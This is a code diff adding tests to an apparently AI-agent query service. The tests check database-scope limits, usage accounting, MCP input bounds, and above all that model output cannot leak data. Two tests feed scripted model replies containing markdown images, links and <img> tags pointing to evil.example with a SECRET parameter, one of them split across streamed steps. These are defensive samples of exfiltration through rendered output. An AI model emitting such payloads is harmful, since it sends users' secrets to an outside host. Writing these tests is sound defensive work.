@@ -164,6 +164,46 @@ test("a token that is limited to databases asks about those alone", async () => 
   expect(JSON.stringify(asked.asked().at(-1)?.body)).not.toContain("tickets (");
 });
 
+test("a row has no other database read, whatever its reader may see", async () => {
+  asked.play([{ toolCalls: [sql("SELECT * FROM ops.t")] }, { text: ["no"] }]);
+  const result = only(await ask(url, "What is in ops?", as("adm")), "tool_result");
+  expect(result).toMatchObject({ ok: false });
+});
+
+test("halves of an image that are said in two steps make none", async () => {
+  const call = { toolCalls: [sql("SELECT 1 AS one")] };
+  asked.play([
+    { text: ["!"], ...call },
+    { text: ["[x]"], ...call },
+    { text: ["(//evil.example/?d=SECRET) a <"], ...call },
+    { text: ["img src=//evil.example>"] },
+  ]);
+  const { text } = only(await ask(url, "Draw!", as("wri")), "answer_final");
+  expect(text).not.toMatch(/!\[|\]\(|<img/u);
+});
+
+test("an address that a call puts together is not known by its answer", async () => {
+  const evil = "https://evil.example/?d=SECRET";
+  asked.play([
+    { toolCalls: [sql(`SELECT '${evil}' AS url`), { name: evil, input: {} }] },
+    { text: [`[x](${evil}) ${evil}`] },
+  ]);
+  expect(only(await ask(url, "Link!", as("wri")), "answer_final")["text"]).not.toContain("evil");
+});
+
+test("a provider that counts nonsense ends no run", async () => {
+  asked.play([{ text: ["Counted."], usage: { input: -1, output: -1 } }]);
+  const events = await ask(url, "Count!", as("wri"));
+  expect(events.at(-1)).toMatchObject({ event: "run_finished", data: { status: "done", usage: { total_tokens: 0 } } });
+});
+
+test("a question of an agent over MCP is bounded as any", async () => {
+  const params = { name: "ask", arguments: { question: `https://${".".repeat(100_000)}a` } };
+  const body = { jsonrpc: "2.0", id: 1, method: "tools/call", params };
+  const headers = { ...as("rea"), Accept: "application/json, text/event-stream" };
+  expect(await (await send(url, "POST", "/mcp/v1", body, headers)).text()).toContain("32768");
+});
+
 test("who chose the engine is in the audit log", async () => {
   const entries = await send(url, "GET", "/v1/admin/audit", undefined, as("adm"));
   const text = await entries.text();
